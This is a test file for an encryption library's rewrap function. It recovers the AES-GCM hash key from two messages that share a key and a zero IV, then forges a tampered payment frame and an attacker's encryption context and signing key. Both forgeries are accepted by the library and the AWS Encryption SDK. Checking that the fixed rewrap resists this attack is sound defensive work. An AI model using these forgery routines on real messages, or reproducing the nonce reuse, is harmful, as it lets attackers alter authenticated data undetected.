// Two versions of one message must not give the GHASH key. The attack, run here for real with
// helpers/ghash.ts: XOR the two v2 header tags, find the roots of the GHASH polynomial (the
// candidates for H), take E_K(J0) from one tag, and re-tag an edited header or frame.
// 1. On a pair made the way rewrap used to make it (same message id and data key, so the same key
//    and the fixed zero header IV), the attack finds H and its forgeries are accepted by Envelope
//    and by @aws-crypto/client-node: a known-plaintext body edit (0x0478, raw AES reader) and an
//    attacker's context and signing key (0x0578, raw RSA reader). This checks the attack itself.
// 2. On a message and its rewrap by today's code, the message ids differ, H is not among the
//    candidates, and no forgery made with any candidate is accepted by either reader.
import { Buffer } from 'node:buffer';
import { createCipheriv, createECDH, createPrivateKey, createSign, hkdfSync } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  decrypt,
  encrypt,
  findSuite,
  parseHeader,
  rewrap,
  serializeEncryptionContext,
  type EncryptedDataKey,
  type EncryptionContext,
  type Keyring,
} from '@envelope/core';
import { RawAesKeyring } from '@envelope/keyring-raw-aes';
import { generateRsaKeyPair, RawRsaKeyring } from '@envelope/keyring-raw-rsa';
import { esdkRawAes, esdkRawRsa, esdkRequire } from './helpers/esdk.js';
import { candidateHashKeys, fromBlock, maskOf, tagWith, type Gf } from './helpers/ghash.js';

const TAG = 16;
const FRAME = 64;
const aesKey = (n: number) => Buffer.alloc(32, n);
const aes = (name: string, n: number) => new RawAesKeyring({ keyNamespace: 'ns', keyName: name, wrappingKey: aesKey(n) });
let rsa: { publicKeyPem: string; privateKeyPem: string };
const rsaKeyring = () => new RawRsaKeyring({ keyNamespace: 'escrow', keyName: 'escrow-1', publicKey: rsa.publicKeyPem, privateKey: rsa.privateKeyPem, padding: 'oaep-sha256' });

beforeAll(async () => {
  rsa = await generateRsaKeyPair({ bits: 2048 });
}, 60_000);

/** The keyring, keeping a copy of each data key it generates (the test's knowledge, not the attacker's). */
function recording(k: Keyring): Keyring & { keys: Buffer[] } {
  const keys: Buffer[] = [];
  return {
    keys,
    async onEncrypt(m, o) {
      const r = await k.onEncrypt(m, o);
      keys.push(Buffer.from(r.plaintextDataKey!));
      return r;
    },
    onDecrypt: (m, e, o) => k.onDecrypt(m, e, o),
  };
}

/** The v2 message key of the committing suites (HKDF-SHA512, salt = message id). */
const messageKey = (suiteId: number, dataKey: Uint8Array, messageId: Uint8Array): Buffer =>
  Buffer.from(hkdfSync('sha512', dataKey, messageId, Buffer.concat([Buffer.from([suiteId >> 8, suiteId & 0xff]), Buffer.from('DERIVEKEY')]), 32));
const hashKeyOf = (key: Buffer): Gf => {
  const c = createCipheriv('aes-256-ecb', key, null);
  return fromBlock(Buffer.concat([c.update(Buffer.alloc(16)), c.final()]));
};

interface Parts { readonly authenticated: Buffer; readonly tag: Buffer; readonly headerLength: number; readonly messageId: Buffer }
function partsOf(c: Uint8Array): Parts {
  const { headerLength, header } = parseHeader(c)!;
  const b = Buffer.from(c);
  return { authenticated: b.subarray(0, headerLength - TAG), tag: b.subarray(headerLength - TAG, headerLength), headerLength, messageId: Buffer.from(header.messageId) };
}

const u16 = (n: number) => Buffer.from([n >> 8, n & 0xff]);
const field = (b: Uint8Array) => Buffer.concat([u16(b.length), b]);

/** The authenticated bytes of a framed v2 header (data-format/message-header.md, version 2). */
function v2Header(suiteId: number, messageId: Uint8Array, context: EncryptionContext, edks: readonly EncryptedDataKey[], commitment: Uint8Array): Buffer {
  const frame = Buffer.alloc(4);
  frame.writeUInt32BE(FRAME);
  return Buffer.concat([
    Buffer.from([2]), u16(suiteId), messageId,
    field(serializeEncryptionContext(context)),
    u16(edks.length), ...edks.flatMap((e) => [field(Buffer.from(e.providerId)), field(e.providerInfo), field(e.ciphertext)]),
    Buffer.from([2]), frame, commitment,
  ]);
}

/** What the old rewrap wrote: the same message id (so the same key and zero IV), `to`'s EDKs, the same body. */
async function oldStyleRewrap(c: Uint8Array, dataKey: Buffer, to: Keyring, context: EncryptionContext): Promise<Buffer> {
  const p = partsOf(c);
  const { header } = parseHeader(c)!;
  const suite = findSuite(header.suiteId)!;
  const m = await to.onEncrypt({ suite, encryptionContext: context, encryptedDataKeys: [], plaintextDataKey: Uint8Array.from(dataKey) });
  const commitment = p.authenticated.subarray(p.authenticated.length - 32);
  const a = v2Header(header.suiteId, p.messageId, context, m.encryptedDataKeys, commitment);
  const g = createCipheriv('aes-256-gcm', messageKey(header.suiteId, dataKey, p.messageId), Buffer.alloc(12));
  g.setAAD(a);
  g.final();
  return Buffer.concat([a, g.getAuthTag(), Buffer.from(c).subarray(p.headerLength)]);
}

/** The body AAD of a frame (data-format/message-body-aad.md). */
function frameAad(messageId: Uint8Array, seq: number, length: number): Buffer {
  const tail = Buffer.alloc(12);
  tail.writeUInt32BE(seq, 0);
  tail.writeUInt32BE(length, 8);
  return Buffer.concat([messageId, Buffer.from('AWSKMSEncryptionClient Frame'), tail]);
}

/** Known-plaintext edit of frame 1 (its first bytes become `to`), re-tagged with candidate `h`. */
function editFrame1(c: Uint8Array, h: Gf, known: Uint8Array, to: Uint8Array): Buffer {
  const p = partsOf(c);
  const out = Buffer.from(c);
  const start = p.headerLength + 4 + 12;
  const ct = out.subarray(start, start + FRAME);
  const tag = out.subarray(start + FRAME, start + FRAME + TAG);
  const aad = frameAad(p.messageId, 1, FRAME);
  const mask = maskOf(h, tag, aad, ct);
  for (let i = 0; i < to.length; i++) ct[i]! ^= known[i]! ^ to[i]!;
  tagWith(h, mask, aad, ct).copy(tag);
  return out;
}

/** A 0x0578 message's header with the attacker's context and signing key, re-tagged with `h`, body kept, footer signed by the attacker. */
function forgeContext(c: Uint8Array, h: Gf, context: EncryptionContext): Buffer {
  const p = partsOf(c);
  const { header } = parseHeader(c)!;
  const ecdh = createECDH('secp384r1');
  ecdh.generateKeys();
  const pub = ecdh.getPublicKey(undefined, 'compressed').toString('base64');
  const commitment = p.authenticated.subarray(p.authenticated.length - 32);
  const a = v2Header(0x0578, p.messageId, { ...context, 'aws-crypto-public-key': pub }, header.encryptedDataKeys, commitment);
  const forgedHeader = Buffer.concat([a, tagWith(h, maskOf(h, p.tag, p.authenticated), a)]);
  const body = bodyOf(Buffer.from(c), p.headerLength);
  const jwk = { kty: 'EC', crv: 'P-384', d: ecdh.getPrivateKey().toString('base64url'), x: '', y: '' };
  const uncompressed = ecdh.getPublicKey();
  jwk.x = uncompressed.subarray(1, 49).toString('base64url');
  jwk.y = uncompressed.subarray(49).toString('base64url');
  const signature = createSign('sha384').update(forgedHeader).update(body).sign(createPrivateKey({ key: jwk, format: 'jwk' }));
  return Buffer.concat([forgedHeader, body, u16(signature.length), signature]);
}

/** The body of a framed message (after the header, up to the end of the final frame). */
function bodyOf(b: Buffer, headerLength: number): Buffer {
  let o = headerLength;
  for (;;) {
    if (b.readUInt32BE(o) !== 0xffffffff) {
      o += 4 + 12 + FRAME + TAG;
      continue;
    }
    const length = b.readUInt32BE(o + 4 + 4 + 12);
    o += 4 + 4 + 12 + 4 + length + TAG;
    return b.subarray(headerLength, o);
  }
}

const accepted = (p: Promise<unknown>): Promise<boolean> => p.then(() => true, () => false);
const plaintext = Buffer.from('PAY 100.00 EUR TO ACCOUNT DE00 1111 2222 3333 4444 00 -- ref 2026-12-07 ' + 'x'.repeat(200));
const edit = Buffer.from('PAY 999999 EUR TO ACCOUNT GB99 6666 6666 6666 6666 66');

describe('GHASH-key recovery from two versions of a message', () => {
  it('0x0478: on a pair written the old way (same id and key), H is recovered and a body edit is accepted by Envelope and the ESDK', async () => {
    const a = recording(aes('a', 1));
    const m = await encrypt(a, plaintext, { suiteId: 0x0478, frameLength: FRAME, encryptionContext: { purpose: 'payments' } });
    const old = await oldStyleRewrap(m.ciphertext, a.keys[0]!, aes('b', 2), { purpose: 'payments' });
    expect(Buffer.from((await decrypt(aes('b', 2), old)).plaintext).equals(plaintext)).toBe(true); // a valid old-style rewrap
    const p1 = partsOf(m.ciphertext);
    const p2 = partsOf(old);
    const hs = candidateHashKeys(p1.authenticated, p1.tag, p2.authenticated, p2.tag);
    expect(hs).toContain(hashKeyOf(messageKey(0x0478, a.keys[0]!, p1.messageId)));
    let forged = 0;
    for (const h of hs) {
      const f = editFrame1(old, h, plaintext, edit);
      const ours = await decrypt(aes('b', 2), f).then((r) => Buffer.from(r.plaintext), () => undefined);
      if (!ours) continue;
      forged++;
      expect(ours.subarray(0, edit.length).equals(edit)).toBe(true);
      const esdk = await esdkRequire.decrypt(esdkRawAes('ns', 'b', aesKey(2)), f);
      expect(Buffer.from(esdk.plaintext).subarray(0, edit.length).equals(edit)).toBe(true);
    }
    expect(forged).toBe(1);
  }, 120_000);

  it('0x0478: a message and its rewrap have different message ids; H is not recovered; no candidate forges a frame any reader accepts', async () => {
    const a = recording(aes('a', 1));
    const m = await encrypt(a, plaintext, { suiteId: 0x0478, frameLength: FRAME, encryptionContext: { purpose: 'payments' } });
    const r = await rewrap(m.ciphertext, { from: aes('a', 1), to: aes('b', 2) });
    const p1 = partsOf(m.ciphertext);
    const p2 = partsOf(r.ciphertext);
    expect(p1.messageId.equals(p2.messageId)).toBe(false);
    const hs = candidateHashKeys(p1.authenticated, p1.tag, p2.authenticated, p2.tag);
    const dk = a.keys[0]!;
    expect(hs).not.toContain(hashKeyOf(messageKey(0x0478, dk, p1.messageId)));
    expect(hs).not.toContain(hashKeyOf(messageKey(0x0478, dk, p2.messageId)));
    for (const h of hs) {
      for (const [c, reader, esdk] of [
        [m.ciphertext, aes('a', 1), esdkRawAes('ns', 'a', aesKey(1))],
        [r.ciphertext, aes('b', 2), esdkRawAes('ns', 'b', aesKey(2))],
      ] as const) {
        const f = editFrame1(c, h, plaintext, edit);
        expect(await accepted(decrypt(reader, f))).toBe(false);
        expect(await accepted(esdkRequire.decrypt(esdk, f))).toBe(false);
      }
    }
  }, 120_000);

  it('0x0578 raw RSA reader: the old-way pair gives H and a header with the attacker\'s context and signing key is accepted; a rewrap pair gives nothing accepted', async () => {
    const k = recording(rsaKeyring());
    const context = { tenant: 'acme' };
    const m = await encrypt(k, plaintext, { suiteId: 0x0578, frameLength: FRAME, encryptionContext: context });
    // The old rewrap kept the id and key, with a new signing key in the context.
    const signer = createECDH('secp384r1');
    signer.generateKeys();
    const newContext = { ...context, 'aws-crypto-public-key': signer.getPublicKey(undefined, 'compressed').toString('base64') };
    const old = await oldStyleRewrap(m.ciphertext, k.keys[0]!, rsaKeyring(), newContext);
    const p1 = partsOf(m.ciphertext);
    const hs = candidateHashKeys(p1.authenticated, p1.tag, partsOf(old).authenticated, partsOf(old).tag);
    let forged = 0;
    for (const h of hs) {
      const f = forgeContext(m.ciphertext, h, { tenant: 'evil' });
      const ours = await decrypt(rsaKeyring(), f).catch(() => undefined);
      if (!ours) continue;
      forged++;
      expect(ours.header.encryptionContext['tenant']).toBe('evil');
      const esdk = await esdkRequire.decrypt(esdkRawRsa('escrow', 'escrow-1', 'oaep-sha256', { privateKey: rsa.privateKeyPem }), f);
      expect(esdk.messageHeader.encryptionContext['tenant']).toBe('evil');
    }
    expect(forged).toBe(1);

    const r = await rewrap(m.ciphertext, { from: rsaKeyring(), to: rsaKeyring() });
    const p2 = partsOf(r.ciphertext);
    expect(p1.messageId.equals(p2.messageId)).toBe(false);
    const hs2 = candidateHashKeys(p1.authenticated, p1.tag, p2.authenticated, p2.tag);
    expect(hs2).not.toContain(hashKeyOf(messageKey(0x0578, k.keys[0]!, p1.messageId)));
    expect(hs2).not.toContain(hashKeyOf(messageKey(0x0578, k.keys[0]!, p2.messageId)));
    for (const h of hs2) {
      for (const c of [m.ciphertext, r.ciphertext]) {
        const f = forgeContext(c, h, { tenant: 'evil' });
        expect(await accepted(decrypt(rsaKeyring(), f))).toBe(false);
        expect(await accepted(esdkRequire.decrypt(esdkRawRsa('escrow', 'escrow-1', 'oaep-sha256', { privateKey: rsa.privateKeyPem }), f))).toBe(false);
      }
    }
  }, 180_000);
});
